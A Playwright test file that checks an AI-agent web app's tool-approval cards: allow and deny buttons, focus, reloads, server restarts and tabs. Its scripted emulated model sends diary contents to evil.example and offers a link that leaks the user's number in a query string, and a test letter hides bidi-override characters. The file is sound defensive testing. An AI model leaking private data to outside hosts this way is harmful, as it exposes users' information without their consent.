"""A person is asked before a tool acts: the card, its buttons, reloads, restarts, other tabs."""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.async_api import Locator, Page, expect

from agentweb.emulator import server
from agentweb.emulator.script import Script, after, call, say, when
from agentweb.emulator.server import EmulatorServer
from tests.e2e import served as app
from tests.e2e.conftest import Snap, Watch, observe
from tests.e2e.people import NAME, PASSWORD, ended, log_in, set_up, start_chat, turn
from tests.e2e.people import say as send
from tests.e2e.served import Served
from tests.support import toy_tools

pytestmark = [pytest.mark.e2e, pytest.mark.asyncio(loop_scope="session")]
PROGRAM = ("-m", "tests.e2e.toyshop")
LETTER = "Dear Grace,\n\nthe figures are on page\u202e7 \u200bof the <b>report</b>.\n\nYours, Ada"
SCRIPT = Script([
    when("letter", say("I write to her."), call("post", to="grace@example.org", text=LETTER)),
    when("diary", call("read_diary")),
    when("fire", call("fire", at="the old barn")),
    when("both", call("fire", at="the old barn"), call("post", to="bob@example.org", text="Hi")),
    after("read_diary", call("visit", host="evil.example:443", said="It says: {result}")),
    after("post", say("It says: {result}")),
    after("visit", say("It says: {result}")),
    after("fire", say("It says: {result}")),
    when("number", say("See [the guide](HTTPS://evil.example/guide?q=KX4711902).")),
    when("", say("Yes.")),
])  # fmt: skip

#: Whether a question had no button left to press, by decision that was sent.
WATCH_BUTTONS = """() => {
  window.isDisabled = [];
  document.addEventListener("htmx:beforeSend", ({ target }) => {
    const buttons = [...target.querySelectorAll("button[name=verdict]")];
    if (buttons.length) window.isDisabled.push(buttons.every((one) => one.matches(":disabled")));
  });
}"""


@pytest.fixture(scope="module")
def api() -> Iterator[EmulatorServer]:
    with server.start(pace=0, script=SCRIPT) as running:
        yield running


def settings(api: EmulatorServer, data: Path) -> dict[str, str]:
    return {
        "ANTHROPIC_API_KEY": "sk-test",
        "ANTHROPIC_BASE_URL": api.url,
        "AGENTWEB_TITLE_MODEL": "off",
        toy_tools.RAN: str(data / "ran"),
    }


@pytest.fixture(scope="module")
def served(api: EmulatorServer, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    data = tmp_path_factory.mktemp("approvals") / "data"
    running = app.start(data, PROGRAM, **settings(api, data))
    yield running
    running.stop()


def card(page: Page) -> Locator:
    return page.locator(".question")


def ran(served: Served) -> list[str]:
    return [name for name, _ in toy_tools.ran(served.data / "ran")]


async def test_an_allowed_letter_is_sent_once_with_what_was_shown(
    page: Page, served: Served, snap: Snap
) -> None:
    await set_up(page, served)
    await start_chat(page, served, "Write her a letter")
    await expect(card(page)).to_be_visible()
    await expect(card(page)).to_contain_text("Allow this mail to grace@example.org?")
    await expect(card(page)).to_contain_text("Dear Grace,")
    # Hidden characters are seen, and text is text.
    await expect(card(page)).to_contain_text("page⟨U+202E⟩7 ⟨U+200B⟩of the <b>report</b>")
    await expect(page).to_have_title(re.compile("Waits for you"))
    await expect(page.locator(".row[aria-current] .asks")).to_be_visible()
    await snap("approval asked")
    before = ran(served).count("post")
    await card(page).get_by_role("button", name="Allow once").click()
    section = await ended(page, 1)
    await expect(section).to_contain_text("It says: post has run")
    assert ran(served).count("post") == before + 1
    await expect(card(page)).to_have_count(0)
    await expect(page).not_to_have_title(re.compile("Waits for you"))
    await expect(page.locator(".row[aria-current] .asks")).to_be_hidden()


async def test_a_denied_call_does_not_run_and_the_model_is_told(page: Page, served: Served) -> None:
    await set_up(page, served)
    await start_chat(page, served, "Set fire to it")
    await expect(card(page)).to_contain_text("the old barn")
    before = ran(served).count("fire")
    # By the keyboard alone.
    await card(page).get_by_role("button", name="Allow once").focus()
    for _ in range(2):
        await page.keyboard.press("Tab")
    await expect(card(page).get_by_role("button", name="Deny")).to_be_focused()
    await page.keyboard.press("Enter")
    section = await ended(page, 1)
    await expect(section).to_contain_text("did not allow this call")
    await expect(section.locator(".tool .state").first).to_have_text(re.compile("not allowed"))
    # It is what the person wanted, and no failure.
    await expect(section.locator(".is-error")).to_have_count(0)
    await expect(section.locator(".tool h3").last).to_have_text(re.compile(r"^\s*Result\s*$"))
    assert ran(served).count("fire") == before


async def test_the_focus_goes_from_a_question_to_the_next_one_and_then_to_the_answer(
    page: Page, served: Served, watch: Watch
) -> None:
    await set_up(page, served)
    await start_chat(page, served, "Do both")
    await expect(card(page)).to_have_count(2)
    allow = card(page).first.get_by_role("button", name="Allow once")
    # A decision that is refused leaves the focus on its button.
    digest = card(page).first.locator("[name=digest]")
    real = await digest.input_value()
    await digest.evaluate("node => { node.value = node.value.replace(/./g, '0') }")
    await allow.focus()
    await page.keyboard.press("Enter")
    await expect(page.locator("#composer-error .error")).to_be_visible()
    await expect(allow).to_be_focused()
    watch.errors.clear()
    await digest.evaluate("(node, real) => { node.value = real }", real)
    await page.keyboard.press("Enter")
    await expect(card(page)).to_have_count(1)
    await expect(card(page)).to_contain_text("bob@example.org")
    # Told at once, and a heading as well, by which a screen reader comes back to it.
    await expect(card(page).get_by_role("alert")).to_have_count(1)
    await expect(card(page).get_by_role("heading")).to_have_count(1)
    # On none of its buttons: what is pressed once too often must not allow it.
    await expect(card(page)).to_be_focused()
    await page.keyboard.press("Enter")
    await expect(card(page)).to_have_count(1)
    await card(page).get_by_role("button", name="Deny").focus()
    await page.keyboard.press("Enter")
    section = await ended(page, 1)
    await expect(page.locator("#turn-1 > .answer")).to_be_focused()
    await expect(section.locator(".tools")).to_be_visible()
    await expect(section.locator(".is-error")).to_have_count(0)


async def test_what_is_allowed_for_the_chat_is_not_asked_again_there(
    page: Page, served: Served
) -> None:
    await set_up(page, served)
    await start_chat(page, served, "Set fire to it")
    await card(page).get_by_role("button", name="Allow “Fire” every time in this chat").click()
    await ended(page, 1)
    await send(page, "And fire again")
    await expect(await ended(page, 2)).to_contain_text("It says: fire has run")


async def test_after_a_private_reading_it_says_why_it_asks(page: Page, served: Served) -> None:
    await set_up(page, served)
    await start_chat(page, served, "Read the diary")
    await expect(card(page)).to_contain_text("Allow this request to evil.example?")
    await expect(card(page)).to_contain_text(
        "The chat has read your workspace; you have not mentioned this site."
    )
    await expect(card(page).locator(".leaving mark")).to_have_text("read diary")
    await expect(card(page).locator(".until")).to_contain_text("Expires (as Deny) tomorrow")
    await expect(card(page).locator("pre")).to_have_count(2)
    await expect(card(page).locator("pre").first).to_be_hidden()
    await card(page).get_by_text("The whole request").click()
    await expect(card(page).locator("pre mark")).to_have_count(0)
    await card(page).get_by_role("button", name="Deny").click()
    await ended(page, 1)
    assert "visit" not in ran(served)


async def test_the_question_survives_a_reload_and_is_the_same_in_two_tabs(
    page: Page, served: Served
) -> None:
    await set_up(page, served)
    await start_chat(page, served, "Set fire to it")
    await expect(card(page)).to_be_visible()
    await page.reload()
    await expect(card(page)).to_be_visible()
    watch, other = Watch(), await page.context.new_page()
    observe(other, watch)
    await other.goto(page.url)
    await expect(card(other)).to_be_visible()
    # What is sent meanwhile waits for the answer.
    await send(page, "Are you there?")
    await expect(page.locator("#queue")).to_contain_text("Are you there?")
    await card(other).get_by_role("button", name="Deny").click()
    for tab in (page, other):
        await ended(tab, 1)
        await expect(card(tab)).to_have_count(0)
        await expect(await ended(tab, 2)).to_contain_text("Yes.")
    assert watch.errors == []
    await other.close()


@pytest.mark.parametrize("button", ["Allow once", "Deny"])
async def test_a_decision_at_the_end_of_a_session_is_carried_out_after_the_log_in(
    page: Page, served: Served, watch: Watch, button: str
) -> None:
    await set_up(page, served)
    await start_chat(page, served, "Set fire to it")
    await expect(card(page)).to_be_visible()
    before = ran(served).count("fire")
    await page.context.clear_cookies(name="sessionid")
    await page.evaluate(WATCH_BUTTONS)
    await card(page).get_by_role("button", name=button, exact=True).click()
    dialog = page.locator("#session")
    await dialog.locator("[name=username]").fill(NAME)
    await dialog.locator("[name=password]").fill(PASSWORD)
    await dialog.get_by_role("button", name="Log in").click()
    await ended(page, 1)
    assert ran(served).count("fire") == before + (button == "Allow once")
    # While a decision is on its way there is no other.
    assert await page.evaluate("isDisabled") == [True, True]
    watch.errors.clear()


async def test_a_stop_ends_a_turn_that_waits(page: Page, served: Served) -> None:
    await set_up(page, served)
    await start_chat(page, served, "Set fire to it")
    await expect(card(page)).to_be_visible()
    await page.locator("#stop").click()
    section = await ended(page, 1)
    await expect(section).to_contain_text("Stopped")
    await expect(section.locator(".is-error")).to_have_count(0)
    await expect(card(page)).to_have_count(0)


async def test_the_question_survives_a_restart_of_the_server(
    page: Page, watch: Watch, api: EmulatorServer, tmp_path: Path
) -> None:
    data = tmp_path / "data"
    first = app.start(data, PROGRAM, **settings(api, data))
    await set_up(page, first)
    await start_chat(page, first, "Set fire to it")
    await expect(card(page)).to_be_visible()
    # Killed, not asked to end.
    first.process.kill()
    first.process.wait(timeout=60)
    second = app.start(data, PROGRAM, first.port, **settings(api, data))
    try:
        await page.reload()
        if "login" in page.url:
            await log_in(page, second)
        await expect(card(page)).to_be_visible()
        await card(page).get_by_role("button", name="Allow once").click()
        await expect(await ended(page, 1)).to_contain_text("It says: fire has run")
        assert toy_tools.ran(data / "ran")[0][0] == "fire"
        assert len(toy_tools.ran(data / "ran")) == 1
        await expect(turn(page, 1)).to_have_attribute("data-live", "")
        # Nobody may miss a server that is gone, this page least of all.
        await page.goto("about:blank")
        # Of the socket, while there was no server.
        watch.errors.clear()
    finally:
        second.stop()


@pytest.mark.parametrize("theme", ["light", "dark"])
@pytest.mark.parametrize("width", [390, 1280])
async def test_the_card_fits_every_page(
    page: Page, served: Served, snap: Snap, width: int, theme: str
) -> None:
    await page.set_viewport_size({"width": width, "height": 860})
    await page.emulate_media(color_scheme="dark" if theme == "dark" else "light")
    await set_up(page, served)
    await start_chat(page, served, "Read the diary")
    await expect(card(page)).to_be_visible()
    assert await page.evaluate("document.scrollingElement.scrollWidth <= innerWidth")
    for button in await card(page).get_by_role("button").all():
        box = await button.bounding_box()
        assert box is not None
        assert min(box["width"], box["height"]) >= 24
    await snap(f"approval {width} {theme}")
    await page.locator("#stop").click()
    await ended(page, 1)


async def test_a_link_in_whatever_spelling_opens_the_page_that_asks(
    page: Page, served: Served
) -> None:
    await set_up(page, served)
    await start_chat(page, served, "My number is KX4711902.")
    link = (await ended(page, 1)).get_by_role("link", name="the guide")
    for button in ("left", "middle"):
        async with page.context.expect_page() as opened:
            await link.click(button=button)  # type: ignore[arg-type]
        other = await opened.value
        await expect(other.get_by_role("heading", name="Open evil.example?")).to_be_visible()
        await expect(other.locator("mark")).to_have_text("KX4711902")
        await other.close()
